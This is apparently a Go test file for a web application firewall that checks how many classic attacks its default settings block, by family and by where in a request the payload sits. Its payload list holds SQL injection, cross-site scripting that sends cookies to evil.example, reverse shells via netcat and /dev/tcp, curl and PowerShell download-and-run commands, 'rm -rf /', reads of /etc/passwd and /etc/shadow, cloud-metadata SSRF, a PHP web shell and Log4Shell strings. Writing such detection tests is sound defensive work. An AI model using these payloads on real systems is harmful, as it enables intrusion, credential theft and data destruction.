package waf

import (
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"sort"
	"strings"
	"testing"

	"github.com/vigil-sec/vigil/internal/config"
)

// Attack detection at paranoia level 1 with Vigil's defaults: classic
// payloads placed where APIs take input. It backs the false-positive
// defaults (free_text): they must not cost detection. The payloads are
// split in two halves by index (even: the half the defaults were designed
// with; odd: held out), and the prose the payloads are appended to is not
// the false-positive corpus's (internal/e2e/testdata/fp), so neither corpus
// is tuned to the other.

// detectPayloads are classic attacks by family.
var detectPayloads = []struct{ family, payload string }{
	{"sqli", `' OR '1'='1`},
	{"sqli", `1 UNION SELECT username, password FROM users--`},
	{"sqli", `1; DROP TABLE users--`},
	{"sqli", `admin'--`},
	{"sqli", `1' AND SLEEP(5)#`},
	{"sqli", `' OR 1=1 LIMIT 1 -- -`},
	{"sqli", `1) OR pg_sleep(5)--`},
	{"sqli", `'; EXEC xp_cmdshell('dir')--`},
	{"sqli", `1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)`},
	{"sqli", `' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--`},
	{"xss", `<script>alert(1)</script>`},
	{"xss", `<img src=x onerror=alert(1)>`},
	{"xss", `<svg/onload=alert(document.domain)>`},
	{"xss", `javascript:alert(document.cookie)`},
	{"xss", `<iframe src="javascript:alert(1)"></iframe>`},
	{"xss", `"><script>fetch('//evil.example/'+document.cookie)</script>`},
	{"xss", `<body onload=alert(1)>`},
	{"xss", `<a href="javascript:void(0)" onmouseover="alert(1)">hover</a>`},
	{"rce", `; cat /etc/passwd`},
	{"rce", `| nc -e /bin/sh 10.0.0.1 4444`},
	{"rce", `$(curl http://evil.example/x.sh | sh)`},
	{"rce", "`wget http://evil.example/a -O /tmp/a`"},
	{"rce", `&& whoami`},
	{"rce", `; rm -rf / --no-preserve-root`},
	{"rce", `|| ping -c 10 127.0.0.1`},
	{"rce", `; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`},
	{"rce", `| powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')"`},
	{"lfi", `../../../../etc/passwd`},
	{"lfi", `....//....//....//etc/shadow`},
	{"lfi", `/proc/self/environ`},
	{"lfi", `..\..\..\windows\win.ini`},
	{"lfi", `/etc/passwd`},
	{"ssrf", `http://169.254.169.254/latest/meta-data/iam/security-credentials/`},
	{"ssrf", `http://localhost:8080/admin`},
	{"ssrf", `gopher://127.0.0.1:6379/_INFO`},
	{"ssrf", `file:///etc/passwd`},
	{"ssrf", `http://metadata.google.internal/computeMetadata/v1/`},
	{"ssrf", `http://[::1]:22/`},
	{"php", `<?php system($_GET['c']); ?>`},
	{"php", `php://filter/convert.base64-encode/resource=index.php`},
	{"php", `phpinfo();`},
	{"php", `assert($_POST['x'])`},
	{"php", `O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}`},
	{"java", `${jndi:ldap://evil.example/a}`},
	{"java", `java.lang.Runtime.getRuntime().exec("id")`},
	{"java", `#{T(java.lang.Runtime).getRuntime().exec('id')}`},
	{"java", `%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}`},
	{"nosql", `{"$where": "sleep(5000)"}`},
	{"nosql", `'; return db.users.find(); var x='`},
	{"node", `require('child_process').exec('id')`},
	{"ssti", `{{config.__class__.__init__.__globals__['os'].popen('id').read()}}`},
}

// detectProse are review openings the payloads are appended to (written
// for this test; not the false-positive corpus).
var detectProse = []string{
	"Bought this for my brother last month and he has not stopped talking about it since. Solid build, fair price.",
	"The delivery took a little longer than promised, but the support team kept me informed the whole time.",
	"I was sceptical at first, but after two weeks of daily use I can say it was worth every penny.",
}

// detectPlacements put a payload where APIs take input.
var detectPlacements = []struct {
	name string
	req  func(payload string, i int) *Request
}{
	{"query arg", func(p string, _ int) *Request {
		return req("GET", "/products?sort=price&q="+url.QueryEscape(p), "", "")
	}},
	{"form field", func(p string, _ int) *Request {
		return req("POST", "/comments", "application/x-www-form-urlencoded", "name=Ana&comment="+url.QueryEscape(p))
	}},
	{"JSON field", func(p string, _ int) *Request {
		b, _ := json.Marshal(map[string]any{"code": p, "quantity": 2})
		return req("POST", "/cart/coupon", "application/json", string(b))
	}},
	{"JSON prose field", func(p string, i int) *Request {
		b, _ := json.Marshal(map[string]any{"rating": 4, "title": "Worth it", "body": detectProse[i%len(detectProse)] + " " + p})
		return req("POST", "/products/7/reviews", "application/json", string(b))
	}},
	{"header", func(p string, _ int) *Request {
		r := req("GET", "/products", "", "")
		r.Header.Set("Referer", p)
		r.Header.Set("Cookie", "theme=dark; last_search="+url.QueryEscape(p))
		return r
	}},
}

// detection runs every payload of one half (0, 1; -1: all) in every
// placement and returns the share blocked, per placement and in all.
func detection(t *testing.T, e *Engine, half int) (map[string][2]int, [2]int, []string) {
	t.Helper()
	per := map[string][2]int{}
	var all [2]int
	var missed []string
	for i, p := range detectPayloads {
		if half >= 0 && i%2 != half {
			continue
		}
		for _, pl := range detectPlacements {
			id, _ := run(e, pl.req(p.payload, i))
			c := per[pl.name]
			c[1]++
			all[1]++
			if id != 0 {
				c[0]++
				all[0]++
			} else {
				missed = append(missed, fmt.Sprintf("%s in %s: %q", p.family, pl.name, p.payload))
			}
			per[pl.name] = c
		}
	}
	return per, all, missed
}

func detectReport(t *testing.T, label string, per map[string][2]int, all [2]int) string {
	names := make([]string, 0, len(per))
	for n := range per {
		names = append(names, n)
	}
	sort.Strings(names)
	var parts []string
	for _, n := range names {
		parts = append(parts, fmt.Sprintf("%s %d/%d", n, per[n][0], per[n][1]))
	}
	msg := fmt.Sprintf("WAF detection at paranoia 1 (%s): %d of %d attacks blocked (%.1f%%); %s",
		label, all[0], all[1], 100*float64(all[0])/float64(all[1]), strings.Join(parts, ", "))
	t.Log(msg)
	fmt.Fprintln(os.Stderr, msg)
	return msg
}

func TestAttackDetectionAtParanoia1(t *testing.T) {
	crs := build(t, &config.WAF{FreeText: "off"})
	def := pl1(t)
	for _, half := range []struct {
		name string
		n    int
	}{{"design half", 0}, {"held-out half", 1}} {
		t.Run(half.name, func(t *testing.T) {
			t.Parallel() // the engines are shared; under -race this halves the time
			perCRS, allCRS, _ := detection(t, crs, half.n)
			perDef, allDef, missed := detection(t, def, half.n)
			detectReport(t, "CRS scoring everywhere, "+half.name, perCRS, allCRS)
			detectReport(t, "Vigil defaults, "+half.name, perDef, allDef)
			if os.Getenv("DETECT_DEBUG") != "" {
				for _, m := range missed {
					t.Log("missed: " + m)
				}
			}
			// The free-text defaults may only demote rules inside prose:
			// outside a JSON prose field detection is the CRS's, and in one
			// at most one payload in ten may be lost (measured: none of the
			// design half, 2 of 25 held out: a backtick substitution and a
			// localhost URL, docs/waf-testing.md).
			for name, c := range perCRS {
				d := perDef[name]
				lost := c[0] - d[0]
				if name != "JSON prose field" && lost != 0 {
					t.Errorf("%s: %d attacks blocked by the CRS are not by the defaults", name, lost)
				}
				if lost*10 > c[1] {
					t.Errorf("%s: the defaults lose %d of %d attacks", name, lost, c[1])
				}
			}
		})
	}
}
